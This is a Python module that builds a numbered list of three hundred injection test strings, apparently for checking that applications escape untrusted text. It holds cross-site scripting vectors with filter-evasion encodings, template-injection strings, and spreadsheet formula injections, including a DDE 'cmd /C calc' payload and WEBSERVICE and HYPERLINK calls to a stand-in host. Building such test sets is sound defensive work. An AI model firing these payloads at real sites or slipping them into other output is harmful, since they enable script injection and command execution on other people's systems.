"""Three hundred texts that would run, load or restyle something wherever they were taken for more than text.

Each is written anew from the ways there are: where it breaks out of, what it breaks in with, and how it is disguised. What
they would run calls `alert` with their number; what they would make carries the class `pwned`; what they would load lies
on a host that nobody has.
"""

from __future__ import annotations

import itertools

COUNT = 300
HOST = "pwned.invalid"

# Where the text may stand when somebody forgets to escape it: between tags, or inside one of these.
OUT_OF = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</option></select>",
    "-->",
    "]]>",
    "</template>",
)
INTO = (
    "<script class=pwned>alert({n})</script>",
    "<img class=pwned src=x onerror=alert({n})>",
    "<svg class=pwned onload=alert({n})>",
    "<svg class=pwned><script>alert({n})</script></svg>",
    "<iframe class=pwned srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<iframe class=pwned src=javascript:alert({n})></iframe>",
    "<details class=pwned open ontoggle=alert({n})>x</details>",
    "<input class=pwned autofocus onfocus=alert({n})>",
    "<video class=pwned><source onerror=alert({n})></video>",
    "<body class=pwned onload=alert({n})>",
    "<a class=pwned href=javascript:alert({n})>x</a>",
    "<form class=pwned action=//" + HOST + "/{n}><button>x</button></form>",
    "<link class=pwned rel=stylesheet href=//" + HOST + "/{n}.css>",
    "<meta class=pwned http-equiv=refresh content=0;url=//" + HOST + "/{n}>",
    "<base class=pwned href=//" + HOST + "/{n}/>",
    "<object class=pwned data=//" + HOST + "/{n}></object>",
    "<style class=pwned>@import'//" + HOST + "/{n}.css'</style>",
    "<img class=pwned src=//" + HOST + "/{n}.png>",
    "<math class=pwned><mtext><img src=x onerror=alert({n})></mtext></math>",
    "<dialog class=pwned open><p tabindex=0 autofocus onfocus=alert({n})>x</p></dialog>",
    "<div class=pwned hx-get=/ hx-trigger=load hx-on::after-request=alert({n})></div>",
    "<div class=pwned hx-on:htmx:load=alert({n}) data-hx-get=// hx-trigger=load></div>",
)
INSIDE_A_TAG = (
    '" onmouseover=alert({n}) x="',
    "' onmouseover=alert({n}) x='",
    '" autofocus onfocus=alert({n}) x="',
    "` onmouseover=alert({n})",
    "x onmouseover=alert({n})",
    '" style="background:url(//' + HOST + '/{n})" x="',
    '" class="pwned" x="',
    "' class='pwned' x='",
    '" hx-get="//' + HOST + '/{n}" hx-trigger="load" x="',
)
INSIDE_A_SCRIPT = (
    '";alert({n})//',
    "';alert({n})//",
    "`;alert({n})//",
    '\\";alert({n})//',
    "${{alert({n})}}",
    "</script ><script>alert({n})//",
    "<!--<script>alert({n})",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e",
    "\u2028alert({n})//",
    "*/alert({n})/*",
)
DISGUISED = (
    "&lt;img class=pwned src=x onerror=alert({n})&gt;",
    "&#60;img class=pwned src=x onerror=alert({n})&#62;",
    "&amp;lt;script&amp;gt;alert({n})&amp;lt;/script&amp;gt;",
    "%3Cscript%20class=pwned%3Ealert({n})%3C/script%3E",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "＜script class=pwned＞alert({n})＜/script＞",
    "<ScRiPt class=pwned>alert({n})</sCrIpT>",
    "<<script class=pwned>alert({n})//<</script>",
    "<script/class=pwned>alert({n})</script>",
    "<img/class=pwned/src='x'/onerror='alert({n})'>",
    "<svg/class=pwned/onload=alert({n})//",
    "<x class=pwned onclick=alert({n})>x</x>",
    "<img class=pwned src=x onerror=&#97;lert({n})>",
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java&#10;script:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "vbscript:alert({n})",
    "//" + HOST + "/{n}",
    "http://" + HOST + "/{n}",
)
FOR_A_TEMPLATE = (
    "{{{{{n}*7}}}}",
    "{{% include 'x' %}} {n}",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "<%= alert({n}) %>",
    "#{{alert({n})}}",
    "%(name)s {n}",
    "{{0.__class__}} {n}",
    "{{first_name}} {n}",
    "$&$1 {n}",
)
FOR_A_SPREADSHEET = (
    '=HYPERLINK("http://' + HOST + '/{n}","x")',
    "=cmd|' /C calc'!A{n}",
    "@SUM(1+{n})",
    "+1+{n}+A1",
    "-1-{n}-A1",
    "=1+{n}",
    "＝1+{n}",
    "＠SUM({n})",
    '=WEBSERVICE("http://' + HOST + '/{n}")',
    "%0A=1+{n}",
)


def payloads() -> tuple[str, ...]:
    """All of them, each with its number, no two alike."""
    others = (*INSIDE_A_TAG, *INSIDE_A_SCRIPT, *DISGUISED, *FOR_A_TEMPLATE, *FOR_A_SPREADSHEET)
    ways = [start + vector for start, vector in itertools.product(OUT_OF, INTO)]
    found = [*others, *ways]
    return tuple(way.format(n=number) for number, way in enumerate(found[:COUNT], start=100))
